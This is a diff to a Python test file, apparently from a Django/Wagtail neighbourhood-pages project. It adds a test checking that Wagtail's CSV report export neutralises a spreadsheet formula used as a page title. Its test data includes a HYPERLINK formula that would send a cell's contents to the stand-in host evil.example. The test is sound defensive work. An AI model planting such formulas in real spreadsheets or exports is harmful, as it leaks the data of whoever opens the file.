@@ -8,7 +8,7 @@ from buurtpages.models import Registration
 from tests.base import client_for, inside, logged_in
 from tests.test_rsvp import small_activity
 from tests.test_trainings_portal import municipalities, portal_client
-from workflows.roles import BUURTVERBINDER
+from workflows.roles import BUURTBEHEERDER, BUURTVERBINDER
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
@@ -53,3 +53,19 @@ def test_municipality_csv_neutralises_a_formula_buurt_name(alpha, beta):
     # The numbers themselves stay numbers.
     assert all(cell.isdigit() for cell in rows[1][3:-1])
     assert client_for(alpha).get("/").status_code == 200
+
+
+def test_wagtail_report_csv_neutralises_a_formula_page_title(alpha):
+    """Wagtail's own exports (reports, listings) write CSV too: a resident can title a
+    page with a formula that a beheerder then opens in a spreadsheet."""
+    activity = small_activity(alpha, capacity=None)
+    with inside(alpha):
+        activity.title = FORMULAS[0]
+        activity.save_revision().publish()
+    beheerder = logged_in(alpha, "beheer@example.nl", BUURTBEHEERDER)
+    response = beheerder.get("/admin/reports/site-history/?export=csv")
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
+    assert "'" + FORMULAS[0] in cells
+    assert FORMULAS[0] not in cells
+    assert "Taartjes bakken" in cells  # positive control: the earlier title is there as it was
